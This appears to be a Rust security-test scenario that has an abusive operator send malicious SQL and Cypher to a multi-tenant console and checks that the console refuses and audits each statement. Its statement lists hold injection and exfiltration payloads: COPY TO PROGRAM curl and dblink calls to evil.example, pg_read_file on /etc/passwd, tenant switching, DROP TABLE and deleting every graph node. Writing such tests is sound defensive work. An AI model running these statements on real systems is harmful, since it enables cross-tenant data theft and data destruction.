//! Abuse: an operator's console, and statements on it that are meant to take away what is not theirs.
//!
//! Whatever of these succeeds is a breach, and whatever is refused must be known to the SIEM. Operators with nothing to
//! hide ask in between, and are served.

use crate::actors::{Intruder, bearer};
use crate::scenario::{Scenario, Variant, sole};
use crate::stage::Stage;
use models::app::refused::AUDITED;
use models::console::sql::{FUNCTIONS, ONE_STATEMENT, PLAIN_QUERY, POLICY_TABLES, READ_ONLY, ROW_LIMIT};
use models::fact::Fact;
use models::graph::guard::{OPERATOR_READ_ONLY, PATH_BOUND, PROCEDURE_ALLOWLIST};
use models::platform::graph::GraphPlan;
use models::wire::http::Method;
use sim::Duration;

/// The scenario.
pub const SCENARIO: Scenario = Scenario {
    name: "abuse/malicious-query",
    title: "No statement on the operators' console takes away what is not theirs, and every attempt is known",
    threat: "An operator sends statements to the console that are meant to reach other tenants' data or the server \
             itself: several at once, changes, UNION and subqueries, comments and look-alike letters, functions that \
             read files or take another tenant's place, tables beside the records, COPY to a program, and everything \
             that one query can take. In Cypher: procedures of a library, LOAD CSV, paths without an end, changes. \
             And tries them all night, because nobody sees it.",
    stride: None,
    requirements: &["STO-07"],
    variants: &[
        Variant { name: "stacked", mark: "console.stacked", controls: &[sole(&ONE_STATEMENT)] },
        Variant { name: "change", mark: "console.change", controls: &[sole(&READ_ONLY), sole(&AUDITED)] },
        Variant { name: "trick", mark: "console.trick", controls: &[sole(&PLAIN_QUERY)] },
        Variant { name: "function", mark: "console.function", controls: &[sole(&FUNCTIONS)] },
        Variant { name: "table", mark: "console.table", controls: &[sole(&POLICY_TABLES)] },
        Variant { name: "bulk", mark: "console.bulk", controls: &[sole(&ROW_LIMIT)] },
        Variant { name: "procedure", mark: "console.procedure", controls: &[sole(&PROCEDURE_ALLOWLIST)] },
        Variant { name: "endless", mark: "console.endless", controls: &[sole(&PATH_BOUND)] },
        Variant {
            name: "graph-change",
            mark: "console.graph-change",
            controls: &[sole(&OPERATOR_READ_ONLY), sole(&AUDITED)],
        },
        Variant { name: "unseen", mark: "console.refused", controls: &[] },
        // What is permitted is served.
        Variant { name: "honest", mark: "console.honest-served", controls: &[] },
    ],
    canary: false,
    build,
};

const OPERATOR: &str = "acme";
const SQL: &str = "/v1/console/sql";
const CYPHER: &str = "/v1/console/cypher";
/// More than the console shows at once.
const RECORDS: u32 = 60;

const STACKED: [&str; 3] = [
    "SELECT body FROM records LIMIT 1; SELECT body FROM records LIMIT 1",
    "SELECT 1; SET app.tenant_id = 'acme-corp'; SELECT body FROM records LIMIT 5",
    "SELECT 1;DROP TABLE records",
];
const CHANGE: [&str; 4] = [
    "UPDATE records SET label = label WHERE id = 999999",
    "COPY records TO PROGRAM 'curl -d @- https://evil.example'",
    "SET app.tenant_id = 'acme-corp'",
    "CREATE TABLE stolen (body text)",
];
const TRICK: [&str; 6] = [
    "SELECT/**/body FROM records WHERE id = 1",
    "SELECT body FROM records WHERE id = 1 -- AND tenant_id = $1",
    "SELECT body FROM records UNION SELECT body FROM records",
    "SELECT body FROM records WHERE id = (SELECT min(id) FROM records)",
    "WITH r AS (SELECT body FROM records) SELECT body FROM r",
    "SELECT body FROM records WHERE label = '\u{ff07} OR 1=1'",
];
const FUNCTION: [&str; 4] = [
    "SELECT set_config('app.tenant_id', 'acme-corp', true)",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT lo_export(16384, '/tmp/x')",
    "SELECT pg_sleep(60)",
];
const TABLE: [&str; 4] = [
    "SELECT request FROM request_log",
    "SELECT rolname FROM pg_catalog.pg_roles",
    "SELECT a FROM dblink('host=evil.example', 'SELECT 1') AS t(a text)",
    "SELECT table_name FROM information_schema.tables",
];
const PROCEDURE: [&str; 3] = [
    "CALL apoc.export.json.all(null) YIELD data RETURN data",
    "CALL apoc.load.json('https://evil.example/?q') YIELD value RETURN value",
    "LOAD CSV FROM 'https://evil.example/' AS row RETURN row",
];
const ENDLESS: [&str; 2] = [
    "MATCH p = (a:Record {id: 0})-[:RELATES*]->(b:Record) RETURN count(*) AS paths",
    "MATCH p = (a:Record {id: 0})-[:RELATES*1..30]->(b:Record) RETURN count(*) AS paths",
];
const GRAPH_CHANGE: [&str; 2] = ["MERGE (d:Device {name: 'planted'})", "MATCH (n) DETACH DELETE n"];

fn build(stage: &mut Stage<'_>) {
    stage.tenants("acme acme-corp beta", Duration::millis(80));
    stage.records(RECORDS);
    stage.graph(GraphPlan::default());
    stage.console();
    stage.usual_weather();
    for (name, mark, path, statements) in [
        ("stacked", "console.stacked", SQL, &STACKED[..]),
        ("change", "console.change", SQL, &CHANGE[..]),
        ("trick", "console.trick", SQL, &TRICK[..]),
        ("function", "console.function", SQL, &FUNCTION[..]),
        ("table", "console.table", SQL, &TABLE[..]),
        ("procedure", "console.procedure", CYPHER, &PROCEDURE[..]),
        ("endless", "console.endless", CYPHER, &ENDLESS[..]),
        ("graph-change", "console.graph-change", CYPHER, &GRAPH_CHANGE[..]),
    ] {
        operator(stage, (name, true), mark, statements.iter().map(|text| (path, *text)).collect());
    }
    operator(stage, ("bulk", false), "console.bulk", vec![(SQL, "SELECT id, body FROM records")]);
    let honest = vec![
        (SQL, "SELECT id, body FROM records WHERE id < 3 ORDER BY id"),
        (SQL, "SELECT count(*) FROM records"),
        (CYPHER, "MATCH (a:Record {id: 0})-[:RELATES*1..2]->(b:Record) RETURN b.id AS id, b.name AS name"),
    ];
    operator(stage, ("honest", false), "console.honest-asked", honest);
    stage.mark_when("console.honest-served", |fact| match fact {
        Fact::Answered(answer) => answer.status == 200 && *answer.principal == *"attacker/honest",
        _ => false,
    });
    stage.mark_when("console.refused", |fact| match fact {
        Fact::Answered(answer) => answer.status == 403 && answer.what.contains(" /v1/console/"),
        _ => false,
    });
}

fn operator(
    stage: &mut Stage<'_>,
    (name, never): (&'static str, bool),
    mark: &'static str,
    asks: Vec<(&'static str, &'static str)>,
) {
    let ask = |(path, text): (&str, &str)| (Method::Post, path.to_owned(), text.as_bytes().to_vec());
    let asks: Vec<_> = asks.into_iter().map(ask).collect();
    stage.attacker(name, Some(OPERATOR), "STO-07", never, move |d| {
        let mut intruder = Intruder::new(d.node("cell-a/idp"), d.node("edge-a"), OPERATOR, "EU", mark)
            .crafting(|token| Some(bearer(token)));
        intruder.asks.clone_from(&asks);
        (intruder.tries, intruder.gap) = (14, Duration::millis(260));
        Box::new(intruder)
    });
}
